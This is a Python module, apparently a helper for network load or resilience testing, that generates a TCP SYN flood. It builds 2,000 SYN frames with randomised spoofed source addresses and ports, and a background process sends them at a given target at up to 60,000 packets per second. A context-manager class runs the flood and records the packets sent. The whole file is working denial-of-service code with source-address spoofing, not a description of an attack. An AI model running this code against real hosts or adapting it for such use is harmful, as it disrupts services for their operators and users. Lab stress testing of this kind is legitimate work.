"""SYNs from addresses that are not there, sent by a process of its own."""

import multiprocessing
import random
import time

from packets import SYN, TCP, Wire, ipv4, tcp

FRAMES = 2000
RATE = 60000  # a second: faster ones are lost in the queue before the server, together with everyone else's packets
# MSS, SACK permitted, timestamps, window scale: as of Linux.
OPTIONS = bytes.fromhex("020405b40402080a0000000100000000") + bytes.fromhex("01030307")


def _send(target, sent, stop):
    randomness = random.Random(1)
    with Wire() as wire:
        frames = [wire.ethernet(ipv4(TCP, tcp(SYN, randomness.getrandbits(32), options=OPTIONS, source=source,
                                              destination=target, sport=randomness.randrange(1024, 65536)),
                                     source=source, destination=target))
                  for source in (f"198.18.{randomness.randrange(256)}.{randomness.randrange(1, 255)}" for _ in range(FRAMES))]
        began = time.monotonic()
        while not stop.is_set():
            for n, frame in enumerate(frames):
                if n % 50 == 0:
                    time.sleep(max(0, sent.value / RATE - (time.monotonic() - began)))
                try:
                    wire.socket.send(frame)
                except OSError:  # no room in the queue, or the link is down
                    continue
                sent.value += 1


class SynFlood:
    """Runs while its block does; `sent` and `seconds` afterwards."""

    def __init__(self, target):
        self._sent, self._stop = multiprocessing.Value("q", 0, lock=False), multiprocessing.Event()
        self._process = multiprocessing.Process(target=_send, args=(target, self._sent, self._stop), daemon=True)

    def __enter__(self):
        self._process.start()
        self._began = time.monotonic()
        return self

    def __exit__(self, *exc):
        self._stop.set()
        self._process.join(10)
        self.seconds, self.sent = time.monotonic() - self._began, self._sent.value
